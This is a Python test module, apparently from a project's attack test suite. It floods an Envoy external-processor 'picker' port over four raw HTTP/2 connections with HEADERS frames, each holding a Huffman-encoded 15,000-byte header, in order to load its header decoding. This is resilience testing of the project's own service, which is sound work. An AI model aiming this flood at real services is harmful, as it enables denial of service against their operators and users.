"""Peers of the picker's own port whose header blocks are packed to take long: a millisecond for nine kilobytes."""

import asyncio
import contextlib

from hpack import Encoder

from extproc.http2 import frames as http2
from tests.attack.http2_client import RawClient, raw_client
from tests.attack.target import Target

CONNECTIONS = 4
FIELDS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/envoy.service.ext_proc.v3.ExternalProcessor/Nothing"),
    ("x-long", "a" * 15_000),
]


async def attack(target: Target) -> None:
    """Send blocks as fast as the picker reads them."""
    target.begin()
    block = Encoder().encode(FIELDS, huffman=True)
    async with asyncio.TaskGroup() as tasks:
        for _ in range(CONNECTIONS):
            tasks.create_task(_connection(target, block))


async def _connection(target: Target, block: bytes) -> None:
    while True:
        async with raw_client(*target.picker_address()) as client:
            with contextlib.suppress(ConnectionError):
                while True:
                    await _send(client, block)
                    target.done += 1


async def _send(client: RawClient, block: bytes) -> None:
    stream, client.next_stream = client.next_stream, client.next_stream + 2
    await client.send(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block))
